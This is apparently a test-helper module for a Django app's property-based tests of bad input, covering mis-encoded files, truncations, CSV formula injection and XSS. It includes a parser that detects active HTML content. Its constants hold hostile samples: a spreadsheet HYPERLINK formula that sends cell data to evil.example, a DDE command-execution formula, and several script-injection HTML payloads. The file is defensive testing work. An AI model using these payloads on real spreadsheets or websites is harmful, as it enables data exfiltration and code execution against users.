"""What the property-based tests of bad input share: hypothesis settings, generators and checks."""

import contextlib
import re
from html.parser import HTMLParser

from django.db import transaction
from hypothesis import HealthCheck, settings
from hypothesis import strategies as st

# Modest in `make test` and CI: the machine is shared, and every example of a database test runs real
# queries. `make fuzz` (the "fuzz" profile, tests/conftest.py) runs the profile's many examples instead.
FUZZING = settings.get_current_profile_name() == "fuzz"
FUZZ = settings(
    max_examples=settings.default.max_examples if FUZZING else 60,
    deadline=None,
    database=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
FEW = settings(FUZZ, max_examples=settings.default.max_examples // 4 if FUZZING else 15)

# Encodings a file is wrongly saved in (Japanese offices meet all of these).
WRONG_ENCODINGS = ("utf-16", "utf-16-le", "utf-32", "euc_jp", "iso2022_jp")
# Text a spreadsheet would run as a formula, and how such text is written in the wild.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
FORMULAS = (
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
)
MARKER = "xss1337"
HOSTILE_HTML = (
    f"<script>alert('{MARKER}')</script>",
    f'<img src="x" onerror="alert(\'{MARKER}\')">',
    f"<a href=\"javascript:alert('{MARKER}')\">link</a>",
    f"<p onclick=\"alert('{MARKER}')\">text</p>",
    f"<svg onload=\"alert('{MARKER}')\"></svg>",
    f"<iframe src=\"javascript:alert('{MARKER}')\"></iframe>",
    f"<style>body{{background:url('javascript:{MARKER}')}}</style>",
    f"<a href=\" JaVaScRiPt:alert('{MARKER}')\">x</a>",
    f"<b>{MARKER}</b>",
)


def truncations(data: bytes) -> st.SearchStrategy[bytes]:
    """``data`` cut at any point (not at its end)."""
    return st.integers(min_value=0, max_value=len(data) - 1).map(lambda n: data[:n])


def reencoded(text: str) -> st.SearchStrategy[bytes]:
    """``text`` saved in an encoding the importer does not expect."""
    return st.sampled_from(WRONG_ENCODINGS).map(lambda name: text.encode(name, errors="replace"))


def hostile_html() -> st.SearchStrategy[str]:
    return st.lists(st.sampled_from(HOSTILE_HTML), min_size=1, max_size=4).map("".join)


@contextlib.contextmanager
def rolled_back():
    """Run one example in a savepoint that is always rolled back, so examples do not see each other."""
    with transaction.atomic():
        yield
        transaction.set_rollback(True)


CONTAINERS = ("script", "iframe", "style", "object", "noscript", "template")
ACTIVE_TAGS = (*CONTAINERS, "embed", "frame", "base", "meta", "link")


class _Tags(HTMLParser):
    """Finds active content; ``marker`` limits it to the hostile payload (a page has scripts of its own)."""

    def __init__(self, marker: str | None) -> None:
        super().__init__(convert_charrefs=True)
        self.marker = marker
        self.problems: list[str] = []
        self.inside: str | None = None

    def _ours(self, text: str) -> bool:
        return self.marker is None or self.marker in text

    def handle_starttag(self, tag, attrs):
        if tag in CONTAINERS:
            self.inside = tag
        if tag in ACTIVE_TAGS and self.marker is None:
            self.problems.append(f"<{tag}>")
        for name, value in attrs:
            value = (value or "").strip().lower()
            if name.startswith("on") and self._ours(value):
                self.problems.append(f"<{tag} {name}={value!r}>")
            url = re.sub(r"[\s\x00-\x1f]", "", value)
            is_url = name in ("href", "src", "action", "formaction", "xlink:href")
            if is_url and url.startswith("javascript:") and self._ours(value):
                self.problems.append(f"<{tag} {name}={value!r}>")

    def handle_endtag(self, tag):
        if tag == self.inside:
            self.inside = None

    def handle_data(self, data):
        if self.inside and self.marker and self.marker in data:
            self.problems.append(f"<{self.inside}> containing {data[:60]!r}")


def active_content(html: str, *, marker: str | None = MARKER) -> list[str]:
    """Every place where script would run in a browser: the ``marker`` payload's, or any if None."""
    parser = _Tags(marker)
    parser.feed(html)
    parser.close()
    return parser.problems
